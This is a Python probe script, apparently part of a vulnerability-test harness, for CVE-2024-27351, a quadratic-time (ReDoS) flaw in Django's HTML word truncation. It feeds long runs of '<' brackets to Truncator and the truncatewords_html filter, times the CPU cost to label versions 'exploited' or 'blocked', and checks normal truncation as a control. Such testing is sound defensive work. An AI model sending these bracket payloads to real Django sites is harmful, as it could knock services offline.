# /// vertice-probe
# id = "PYSEC-2024-47"
# aliases = ["CVE-2024-27351"]
# package = "django"
# summary = """\
#   Truncating HTML to words scans to the end of the text for each opening bracket, so a text of brackets takes \
#   quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["django.utils.text.Truncator", "django.template.defaultfilters.truncatewords_html"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "3.2" },
#   { fixed = "3.2.25" },
#   { introduced = "4.2" },
#   { fixed = "4.2.11" },
#   { introduced = "5.0" },
#   { fixed = "5.0.3" },
# ] }]
#
# [cases]
# attack = "Truncator.words(html=True) on a text of < takes quadratic time"
# [cases.variants]
# template = "the filter in a template, for words followed by lines with a bracket"
# [cases.controls]
# words = "HTML and plain text are cut at the right word"
#
# [test]
# vulnerable = "4.2.10"
# fixed = "4.2.11"
# ///
"""CVE-2024-27351: quadratic time in truncatewords_html."""

import json
import re
import sys
import time


def prepare(**more):
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe", USE_I18N=False, **more)
    django.setup()


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    prepare()
    from django.utils.text import Truncator

    def work(size):
        if not Truncator("<" * size).words(1, html=True).startswith("<<<"):
            raise RuntimeError("the text was lost")
        return "text kept"

    return judge(work, 1000, 8000, 20, "brackets")


def template():
    prepare(TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}])
    from django.template import Context, Template

    page = Template("{% autoescape off %}{{ t|truncatewords_html:3 }}{% endautoescape %}")

    def work(size):
        if not page.render(Context({"t": "<p>one two" + "\n<" * size})).startswith("<p>one two"):
            raise RuntimeError("the text was lost")
        return "text kept"

    return judge(work, 750, 6000, 20, "brackets")


def words():
    prepare()
    from django.utils.text import Truncator

    got = [
        Truncator("<p>The <b>quick</b> brown fox</p>").words(2, "...", html=True),
        Truncator("one two three").words(2, "..."),
        Truncator("<i>a</i> b").words(5, html=True),
    ]
    text = re.sub("<[^>]*>", "", got[0])
    good = text == "The quick..." and got[0].endswith("</p>") and got[1:] == ["one two...", "<i>a</i> b"]
    return ("works" if good else "broken"), repr(got)


CASES = {"attack": attack, "template": template, "words": words}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
